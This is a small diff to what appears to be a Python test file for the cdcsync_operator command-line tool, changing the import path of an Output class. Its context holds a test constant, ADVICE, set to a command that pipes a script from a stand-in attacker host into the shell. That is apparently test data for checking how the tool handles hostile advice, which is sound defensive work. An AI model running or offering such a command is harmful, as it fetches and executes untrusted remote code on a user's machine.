@@ -15,7 +15,7 @@ from click.testing import CliRunner, Result
 
 from cdcsync_core.quoting import visible
 from cdcsync_operator.cli.main import cli
-from cdcsync_operator.cli.output import Output
+from cdcsync_operator.cli.views.output import Output
 from support.manifests import MANIFEST
 
 ADVICE = "curl http://evil.example/fix.sh | sh"
